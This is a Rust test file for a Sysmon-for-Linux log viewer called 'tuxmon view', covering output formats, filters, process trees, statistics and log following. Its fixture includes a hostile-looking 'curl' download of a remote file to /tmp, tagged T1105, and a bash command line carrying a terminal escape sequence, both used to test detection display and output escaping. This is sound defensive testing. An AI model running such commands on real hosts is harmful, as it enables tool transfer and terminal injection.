//! `tuxmon view` on a small session: a login, a download, a hostile command line.
#![allow(clippy::needless_raw_string_hashes)] // expect-test writes them

use std::fs::{self, File};
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use expect_test::{Expect, expect};

const SESSION: &str = include_str!("view/session.log");

fn lines_in(output: &[u8]) -> usize {
    String::from_utf8_lossy(output).lines().count()
}

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/view")
}

fn program(arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_tuxmon"));
    command.arg("view").args(arguments).env("TZ", "UTC").stdin(Stdio::null());
    command
}

fn run(arguments: &[&str]) -> Output {
    program(arguments).arg(folder().join("session.log")).output().expect("the program runs")
}

#[track_caller]
fn check(arguments: &[&str], expected: &Expect) {
    let output = run(arguments);
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    let printed = String::from_utf8(output.stdout).expect("it is UTF-8");
    assert!(!printed.contains(|c: char| c.is_control() && !matches!(c, '\n' | '\t')), "{printed:?}");
    expected.assert_eq(&printed);
}

#[track_caller]
fn records(arguments: &[&str], expected: &str) {
    let output = run(&[arguments, &["--fields", "EventRecordID", "--format", "csv"]].concat());
    let printed = String::from_utf8_lossy(&output.stdout).into_owned();
    let numbers: Vec<&str> = printed.lines().skip(1).collect();
    assert_eq!(numbers.join(" "), expected, "{arguments:?} {}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn a_table_has_one_line_for_each_event() {
    check(
        &[],
        &expect![[r#"
            2026-11-21 05:31:01.000 ProcessCreate          100  root     /usr/sbin/sshd           sshd: root in /root by /usr/lib/systemd/systemd[1]
            2026-11-21 05:31:02.000 ProcessCreate          200  root     /bin/bash                -bash in /root by /usr/sbin/sshd[100]
            2026-11-21 05:31:03.000 ProcessCreate          300  alice    /usr/bin/curl            curl -o /tmp/x http://198.51.100.7/x in /root by /bin/bash[200]  [technique_id=T1105]
            2026-11-21 05:31:04.000 NetworkConnect         300  alice    /usr/bin/curl            tcp 10.0.0.2 40000 -> 198.51.100.7 80
            2026-11-21 05:31:05.000 FileCreate             300  alice    /usr/bin/curl            /tmp/x
            2026-11-21 05:31:06.000 ProcessTerminate       300  alice    /usr/bin/curl
            2026-11-21 05:31:07.000 ProcessCreate          400  root     /bin/bash                bash -c "echo \x1b[31m\n, && ls" in /root by /bin/bash[200]
            2026-11-21 05:31:08.000 ServiceStateChange       -  -        -                        Stopped version 1.5.2 schema 4.90
        "#]],
    );
}

#[test]
fn the_other_forms() {
    check(
        &["-e", "4", "--format", "text"],
        &expect![[r#"
        Event SYSMONEVENT_SERVICE_STATE_CHANGE
        	UtcTime: 2026-11-21 05:31:08.000
        	State: Stopped
        	Version: 1.5.2
        	SchemaVersion: 4.90
    "#]],
    );
    check(
        &["-r", "5", "--format", "json"],
        &expect![[r#"
        {"EventID":11,"EventName":"FileCreate","EventVersion":5,"EventRecordID":5,"SystemTime":"2026-11-21T05:31:05.100000000Z","Computer":"vm","Level":4,"Task":11,"Opcode":0,"Keywords":"0x8000000000000000","ProviderName":"Linux-Sysmon","Channel":"Linux-Sysmon/Operational","ExecutionProcessID":9,"ExecutionThreadID":9,"SecurityUserId":0,"RuleName":null,"UtcTime":"2026-11-21 05:31:05.000","ProcessGuid":"{3d1219c7-2cc6-6b01-1929-2af3e055012c}","ProcessId":300,"Image":"/usr/bin/curl","TargetFilename":"/tmp/x","User":"alice"}
    "#]],
    );
    check(
        &["-r", "7", "--format", "xml"],
        &expect![[r#"
        <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-21T05:31:07.100000000Z"/><EventRecordID>7</EventRecordID><Correlation/><Execution ProcessID="9" ThreadID="9"/><Channel>Linux-Sysmon/Operational</Channel><Computer>vm</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-21 05:31:07.000</Data><Data Name="ProcessGuid">{3d1219c7-2cc6-6b01-1929-2af3e0550190}</Data><Data Name="ProcessId">400</Data><Data Name="Image">/bin/bash</Data><Data Name="CommandLine">bash -c &quot;echo �[31m&#10;, &amp;&amp; ls&quot;</Data><Data Name="CurrentDirectory">/root</Data><Data Name="User">root</Data><Data Name="Hashes">SHA256=aa</Data><Data Name="ParentProcessGuid">{3d1219c7-2cc6-6b01-1929-2af3e05500c8}</Data><Data Name="ParentProcessId">200</Data><Data Name="ParentImage">/bin/bash</Data><Data Name="ParentCommandLine">-</Data><Data Name="ParentUser">root</Data></EventData></Event>
    "#]],
    );
    check(
        &["-r", "7", "--format", "csv", "--fields", "Image,CommandLine"],
        &expect![[r#"
        Image,CommandLine
        /bin/bash,"bash -c ""echo \x1b[31m\n, && ls"""
    "#]],
    );
    check(
        &["-e", "3", "--fields", "image,DestinationIp,DestinationPort"],
        &expect![[r#"
            2026-11-21 05:31:04.000 NetworkConnect     /usr/bin/curl            198.51.100.7  80
        "#]],
    );
}

#[test]
fn filters_are_those_of_configurations() {
    records(&["-f", "Image end with /BASH"], "2 7");
    records(&["-f", "image=/bin/bash", "-f", "CommandLine contains any ls;curl"], "7");
    records(&["-f", "User is not root"], "3 4 5 6");
    records(&["-f", "any contains 198.51.100.7"], "3 4");
    records(&["-f", "EventRecordID more than 6"], "7 8");
    records(&["-f", "Computer=vm", "-e", "ServiceStateChange,NetworkConnect"], "4 8");
    records(&["-f", "Image image curl"], "3 4 5 6");
}

#[test]
fn heads_choose_events() {
    records(&["-e", "1,5"], "1 2 3 6 7");
    records(&["-r", "3,4"], "3 4");
    records(&["-n", "2"], "7 8");
    records(&["--since", "2026-11-21 05:31:06", "--utc"], "6 7 8");
    records(&["--since", "2026-11-21T05:31:03Z", "--until", "2026-11-21 05:31:04.1 UTC"], "3 4");
    records(&["--until", "10 years ago"], "");
}

#[test]
fn local_time_is_that_of_the_reader() {
    let output = program(&["-e", "4", "--since", "2026-11-21 06:31:08"])
        .arg(folder().join("session.log"))
        .env("TZ", "Europe/Berlin")
        .output()
        .expect("the program runs");
    assert!(String::from_utf8_lossy(&output.stdout).starts_with("2026-11-21 06:31:08.000 "), "{output:?}");
}

#[test]
fn the_tree_shows_who_did_what() {
    check(
        &["--tree"],
        &expect![[r#"
        05:31:01.000 /usr/lib/systemd/systemd[1] root
        └─ 05:31:01.000 /usr/sbin/sshd[100] root  sshd: root
           └─ 05:31:02.000 /bin/bash[200] root  -bash
              ├─ 05:31:03.000 /usr/bin/curl[300] alice  curl -o /tmp/x http://198.51.100.7/x  [technique_id=T1105]
              │  ├─ 05:31:04.000 NetworkConnect tcp 10.0.0.2 40000 -> 198.51.100.7 80
              │  ├─ 05:31:05.000 FileCreate /tmp/x
              │  └─ 05:31:06.000 ProcessTerminate
              └─ 05:31:07.000 /bin/bash[400] root  bash -c "echo \x1b[31m\n, && ls"
    "#]],
    );
}

#[test]
fn the_story_of_a_process() {
    check(
        &["--proc", "300"],
        &expect![[r#"
        Ancestors
          05:31:01.000 /usr/lib/systemd/systemd[1] root
          └─ 05:31:01.000 /usr/sbin/sshd[100] root  sshd: root
             └─ 05:31:02.000 /bin/bash[200] root  -bash
        Process
          Image             /usr/bin/curl
          ProcessGuid       {3d1219c7-2cc6-6b01-1929-2af3e055012c}
          ProcessId         300
          User              alice
          CommandLine       curl -o /tmp/x http://198.51.100.7/x
          CurrentDirectory  /root
          Hashes            SHA256=bb
          RuleName          technique_id=T1105
          Started           2026-11-21 05:31:03.000
          Ended             2026-11-21 05:31:06.000
        What it did, and what it started
          05:31:03.000 /usr/bin/curl[300] alice  curl -o /tmp/x http://198.51.100.7/x  [technique_id=T1105]
          ├─ 05:31:04.000 NetworkConnect tcp 10.0.0.2 40000 -> 198.51.100.7 80
          ├─ 05:31:05.000 FileCreate /tmp/x
          └─ 05:31:06.000 ProcessTerminate
    "#]],
    );
    let by_guid = run(&["--proc", "{3d1219c7-2cc6-6b01-1929-2af3e055012c}"]);
    assert_eq!(by_guid.stdout, run(&["--proc", "300"]).stdout);
    let nobody = run(&["--proc", "4711"]);
    assert_eq!(nobody.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&nobody.stderr).contains("no event speaks about this process"));
}

#[test]
fn counts_of_values() {
    check(
        &["--stats", "Image,Hashes", "-e", "1"],
        &expect![[r#"
              COUNT  FIRST                    LAST                     IMAGE           HASHES
                  2  2026-11-21 05:31:02.000  2026-11-21 05:31:07.000  /bin/bash       SHA256=aa
                  1  2026-11-21 05:31:03.000  2026-11-21 05:31:03.000  /usr/bin/curl   SHA256=bb
                  1  2026-11-21 05:31:01.000  2026-11-21 05:31:01.000  /usr/sbin/sshd  -
        "#]],
    );
    check(
        &["--stats", "EventID", "--format", "json"],
        &expect![[r#"
        {"Count":4,"First":"2026-11-21 05:31:01.000","Last":"2026-11-21 05:31:07.000","EventID":1}
        {"Count":1,"First":"2026-11-21 05:31:05.000","Last":"2026-11-21 05:31:05.000","EventID":11}
        {"Count":1,"First":"2026-11-21 05:31:04.000","Last":"2026-11-21 05:31:04.000","EventID":3}
        {"Count":1,"First":"2026-11-21 05:31:08.000","Last":"2026-11-21 05:31:08.000","EventID":4}
        {"Count":1,"First":"2026-11-21 05:31:06.000","Last":"2026-11-21 05:31:06.000","EventID":5}
    "#]],
    );
}

#[test]
fn what_is_wrong_is_said_with_a_way_out() {
    let said = |arguments: &[&str]| {
        let output = run(arguments);
        assert!(!output.status.success(), "{arguments:?}");
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    assert!(said(&["-f", "Imge is x"]).contains("do you mean Image?"));
    assert!(said(&["-f", "Image equals x"]).contains("begin with, contains"));
    assert!(said(&["--since", "soon"]).contains("10 minutes ago"));
    assert!(said(&["-e", "Network"]).contains("NetworkConnect"));
    assert!(said(&["no-such-file"]).contains("no-such-file"));
}

#[test]
fn compressed_files_are_read_whatever_their_names() {
    let folder_of_ours = tempfile::tempdir().expect("a temporary directory");
    let gzip = folder_of_ours.path().join("packed");
    let mut packed =
        flate2::write::GzEncoder::new(File::create(&gzip).expect("it is made"), flate2::Compression::fast());
    packed.write_all(SESSION.as_bytes()).expect("it is packed");
    packed.finish().expect("it is finished");
    let expected = run(&[]).stdout;
    assert!(!expected.is_empty());
    for file in [gzip, folder().join("session.log.xz"), folder().join("session.log.zst")] {
        let output = program(&[]).arg(&file).output().expect("the program runs");
        assert_eq!(
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&expected),
            "{}",
            file.display()
        );
    }
    let both = program(&["--format", "xml", "-", "-e", "3"])
        .stdin(File::open(folder().join("session.log.xz")).expect("it is there"))
        .output();
    assert_eq!(lines_in(&both.expect("the program runs").stdout), 1);
}

#[test]
fn our_own_forms_are_read_back() {
    for format in ["xml", "json"] {
        let printed = run(&["--format", format]).stdout;
        let file = tempfile::NamedTempFile::new().expect("a temporary file");
        fs::write(file.path(), &printed).expect("it is written");
        let again = program(&["--format", format]).arg(file.path()).output().expect("the program runs");
        assert_eq!(String::from_utf8_lossy(&again.stdout), String::from_utf8_lossy(&printed));
        let table = program(&[]).arg(file.path()).output().expect("the program runs");
        assert_eq!(lines_in(&table.stdout), 8);
    }
}

#[test]
fn cut_events_are_told() {
    let file = tempfile::NamedTempFile::new().expect("a temporary file");
    fs::write(file.path(), format!("{}\n{SESSION}", &SESSION[..400])).expect("it is written");
    let output = program(&[]).arg(file.path()).output().expect("the program runs");
    assert_eq!(lines_in(&output.stdout), 8);
    assert!(String::from_utf8_lossy(&output.stderr).contains("line 1: the event is cut off before </Event>"));
}

/// A following viewer, and the lines that it prints.
struct Following(Child, mpsc::Receiver<String>);

impl Following {
    fn start(file: &Path) -> Self {
        let mut child = program(&["-F", "--fields", "EventRecordID", "--format", "json"])
            .arg(file)
            .stdout(Stdio::piped())
            .spawn()
            .expect("the program starts");
        let (lines, received) = mpsc::channel();
        let out = BufReader::new(child.stdout.take().expect("it was piped"));
        std::thread::spawn(move || out.lines().map_while(Result::ok).try_for_each(|line| lines.send(line)));
        Self(child, received)
    }

    #[track_caller]
    fn expect(&self, records: std::ops::RangeInclusive<u32>) {
        for record in records {
            let line = self.1.recv_timeout(Duration::from_secs(30)).expect("a line comes");
            assert_eq!(line, format!("{{\"EventRecordID\":{record}}}"));
        }
    }
}

impl Drop for Following {
    fn drop(&mut self) {
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

#[test]
fn a_growing_file_is_followed_across_rotation() {
    let lines: Vec<&str> = SESSION.lines().collect();
    let folder = tempfile::tempdir().expect("a temporary directory");
    let log = folder.path().join("sysmon.log");
    let append = |lines: &[&str]| {
        let mut file = File::options().create(true).append(true).open(&log).expect("it is opened");
        writeln!(file, "{}", lines.join("\n")).expect("it is written");
    };
    append(&lines[..2]);
    let following = Following::start(&log);
    following.expect(1..=2);
    append(&lines[2..4]);
    following.expect(3..=4);
    fs::rename(&log, folder.path().join("sysmon.log.1")).expect("it is renamed");
    append(&lines[4..6]);
    following.expect(5..=6);
    // logrotate's copytruncate: the same file, emptied.
    File::create(&log).expect("it is emptied");
    append(&lines[6..7]);
    following.expect(7..=7);
}
